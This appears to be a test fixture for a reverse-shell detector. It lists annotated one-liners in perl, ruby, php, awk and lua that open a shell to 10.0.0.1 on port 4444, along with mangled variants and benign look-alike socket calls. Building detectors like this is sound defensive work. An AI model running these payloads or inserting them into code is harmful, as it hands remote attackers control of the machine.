python3 -c 'import pty;pty.spawn("/bin/bash")'
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
awk 'BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while(1){s|&getline c;system(c)}}'
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
node 'xocketxconnectxsh -ix' shop
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
gawk 'xocketxconnectxsh -ix' shop
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
luajit 'xocketxconnectxsh -ix' shop
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end

# look-alikes
python3 -c 'import socket; print(socket.gethostname())'
ruby -rsocket -e 'puts TCPSocket.gethostbyname("example.org")'
